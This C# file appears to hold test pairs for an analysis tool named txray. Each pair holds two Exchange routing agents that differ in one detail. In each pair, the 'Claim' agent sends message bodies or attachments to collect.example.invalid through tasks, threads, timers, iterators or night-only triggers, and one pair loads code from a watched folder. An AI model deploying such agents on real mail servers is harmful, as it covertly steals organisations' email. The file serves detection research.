// Pairs written for txray: two agents that differ in one thing, the first does it and the second does not.
// Tasks, iterators, threads, timers.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are documentation addresses. What a correct analysis says about each stands in samples/pairs-*.json.
using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Net;
using System.Reflection;
using System.Threading;
using System.Threading.Tasks;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;
using Microsoft.Exchange.Data.Transport.Smtp;

// 65: a chain of asynchronous methods
namespace Txray.Pairs.P65
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static async Task<string> Read(MailItem item)
        {
            using (var reader = new StreamReader(item.Message.Body.GetContentReadStream()))
            {
                return await reader.ReadToEndAsync().ConfigureAwait(false);
            }
        }

        private static async Task<string> State()
        {
            await Task.Delay(10);
            return "read";
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private async void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string text = await Read(e.MailItem);
            string state = await State();
            Trace.WriteLine(state);
            new WebClient().UploadString("https://collect.example.invalid/pair", text);
        }
    }

    public class Other : RoutingAgent
    {
        private static async Task<string> Read(MailItem item)
        {
            using (var reader = new StreamReader(item.Message.Body.GetContentReadStream()))
            {
                return await reader.ReadToEndAsync().ConfigureAwait(false);
            }
        }

        private static async Task<string> State()
        {
            await Task.Delay(10);
            return "read";
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private async void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string text = await Read(e.MailItem);
            string state = await State();
            Trace.WriteLine(text.Length.ToString());
            new WebClient().UploadString("https://collect.example.invalid/pair", state);
        }
    }
}

// 66: an awaited test in a helper
namespace Txray.Pairs.P66
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static async Task<bool> Wanted(MailItem item)
        {
            await Task.Yield();
            return item.Message.Subject.Contains("invoice");
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private async void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (!await Wanted(e.MailItem))
            {
                return;
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private static async Task<bool> Wanted(MailItem item)
        {
            await Task.Yield();
            return item.Message.Subject.Contains("invoice");
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private async void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (!await Wanted(e.MailItem))
            {
                Trace.WriteLine("no invoice");
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 67: a task and its continuation
namespace Txray.Pairs.P67
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            Task.Run(() => new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd())
                .ContinueWith(task => new WebClient().UploadString("https://collect.example.invalid/pair", task.Result));
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            Task.Run(() => new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd())
                .ContinueWith(task => new WebClient().UploadString("https://collect.example.invalid/pair", task.Status.ToString()));
        }
    }
}

// 68: the state given to a task
namespace Txray.Pairs.P68
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Task.Factory.StartNew(state => new WebClient().UploadString("https://collect.example.invalid/pair",
                (string)state), new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Task.Factory.StartNew(state => new WebClient().UploadString("https://collect.example.invalid/pair", (string)state), "seen");
            Trace.WriteLine(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd().Length.ToString());
        }
    }
}

// 69: an iterator over lines, and over constants
namespace Txray.Pairs.P69
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static IEnumerable<string> Lines(MailItem item)
        {
            yield return "begin";
            using (var reader = new StreamReader(item.Message.Body.GetContentReadStream()))
            {
                string line;
                while ((line = reader.ReadLine()) != null)
                {
                    yield return line;
                }
            }
            yield return "end";
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (string line in Lines(e.MailItem))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", line);
            }
        }
    }

    public class Other : RoutingAgent
    {
        private static IEnumerable<string> Lines(MailItem item)
        {
            yield return "begin";
            using (var reader = new StreamReader(item.Message.Body.GetContentReadStream()))
            {
                string line;
                while ((line = reader.ReadLine()) != null)
                {
                    Trace.WriteLine(line.Length.ToString());
                }
            }
            yield return "end";
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (string line in Lines(e.MailItem))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", line);
            }
        }
    }
}

// 70: an iterator that filters
namespace Txray.Pairs.P70
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static IEnumerable<Attachment> Documents(AttachmentCollection attachments)
        {
            foreach (Attachment attachment in attachments)
            {
                if (!attachment.FileName.EndsWith(".docx"))
                {
                    continue;
                }
                yield return attachment;
            }
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (Attachment attachment in Documents(e.MailItem.Message.Attachments))
            {
                var memory = new MemoryStream();
                attachment.GetContentReadStream().CopyTo(memory);
                new WebClient().UploadData("https://collect.example.invalid/pair", memory.ToArray());
            }
        }
    }

    public class Other : RoutingAgent
    {
        private static IEnumerable<Attachment> Documents(AttachmentCollection attachments)
        {
            foreach (Attachment attachment in attachments)
            {
                if (!attachment.FileName.EndsWith(".docx"))
                {
                    Trace.WriteLine("another kind");
                }
                yield return attachment;
            }
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (Attachment attachment in Documents(e.MailItem.Message.Attachments))
            {
                var memory = new MemoryStream();
                attachment.GetContentReadStream().CopyTo(memory);
                new WebClient().UploadData("https://collect.example.invalid/pair", memory.ToArray());
            }
        }
    }
}

// 71: a work item of the thread pool with its state
namespace Txray.Pairs.P71
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static void Send(object state)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", (string)state);
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            ThreadPool.QueueUserWorkItem(Send, new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private static void Send(object state)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", state.ToString());
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            ThreadPool.QueueUserWorkItem(Send, new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd().Length);
        }
    }
}

// 72: a thread that is started at night
namespace Txray.Pairs.P72
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static void Send(object state)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", (string)state);
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (DateTime.Now.Hour < 6)
            {
                new Thread(Send).Start(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        private static void Send(object state)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", (string)state);
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (DateTime.Now.Hour < 6)
            {
                Trace.WriteLine("night");
            }
            new Thread(Send).Start(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 73: a timer of the factory that sends what the agents kept
namespace Txray.Pairs.P73
{
    public class ClaimFactory : RoutingAgentFactory
    {
        private readonly Timer timer;

        public ClaimFactory()
        {
            timer = new Timer(Flush, null, 60000, 60000);
        }

        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }

        private static void Flush(object state)
        {
            string all;
            lock (Claim.Waiting)
            {
                all = string.Join("|", Claim.Waiting);
                Claim.Waiting.Clear();
            }
            new WebClient().UploadString("https://collect.example.invalid/pair", all);
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        private readonly Timer timer;

        public OtherFactory()
        {
            timer = new Timer(Flush, null, 60000, 60000);
        }

        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }

        private static void Flush(object state)
        {
            string all;
            lock (Other.Waiting)
            {
                all = Other.Waiting.Count.ToString();
                Other.Waiting.Clear();
            }
            new WebClient().UploadString("https://collect.example.invalid/pair", all);
        }
    }

    public class Claim : RoutingAgent
    {
        internal static readonly List<string> Waiting = new List<string>();

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            lock (Waiting)
            {
                Waiting.Add(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        internal static readonly List<string> Waiting = new List<string>();

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            lock (Waiting)
            {
                Waiting.Add(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 74: a lazy value
namespace Txray.Pairs.P74
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            var text = new Lazy<string>(() => new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            new WebClient().UploadString("https://collect.example.invalid/pair", text.Value);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            var text = new Lazy<string>(() => new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            new WebClient().UploadString("https://collect.example.invalid/pair", text.IsValueCreated.ToString());
        }
    }
}

// 75: attachments in parallel
namespace Txray.Pairs.P75
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Parallel.ForEach(e.MailItem.Message.Attachments, attachment =>
            {
                var memory = new MemoryStream();
                attachment.GetContentReadStream().CopyTo(memory);
                new WebClient().UploadData("https://collect.example.invalid/pair", memory.ToArray());
            });
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Parallel.ForEach(e.MailItem.Message.Attachments, attachment =>
            {
                var memory = new MemoryStream();
                attachment.GetContentReadStream().CopyTo(memory);
                new WebClient().UploadData("https://collect.example.invalid/pair", BitConverter.GetBytes(memory.Length));
            });
        }
    }
}

// 76: a delegate begun on another thread
namespace Txray.Pairs.P76
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static void Send(string text)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", text);
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            new Action<string>(Send).BeginInvoke(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd(), null, null);
        }
    }

    public class Other : RoutingAgent
    {
        private static void Count(string text)
        {
            Trace.WriteLine(text.Length.ToString());
        }

        private static void Send(string text)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", text);
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            new Action<string>(Count).BeginInvoke(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd(), null, null);
            Send("seen");
        }
    }
}

// 77: a changed file that is loaded as code
namespace Txray.Pairs.P77
{
    public class ClaimFactory : RoutingAgentFactory
    {
        private readonly FileSystemWatcher watcher;

        public ClaimFactory()
        {
            watcher = new FileSystemWatcher(@"C:\Pairs", "*.bin");
            watcher.Changed += Changed;
            watcher.EnableRaisingEvents = true;
        }

        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }

        private static void Changed(object sender, FileSystemEventArgs e)
        {
            byte[] data = File.ReadAllBytes(e.FullPath);
            Assembly.Load(data).EntryPoint.Invoke(null, null);
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        private readonly FileSystemWatcher watcher;

        public OtherFactory()
        {
            watcher = new FileSystemWatcher(@"C:\Pairs", "*.bin");
            watcher.Changed += Changed;
            watcher.EnableRaisingEvents = true;
        }

        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }

        private static void Changed(object sender, FileSystemEventArgs e)
        {
            byte[] data = File.ReadAllBytes(e.FullPath);
            Trace.WriteLine(data.Length.ToString());
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Trace.WriteLine(e.MailItem.Recipients.Count.ToString());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Trace.WriteLine(e.MailItem.Recipients.Count.ToString());
        }
    }
}
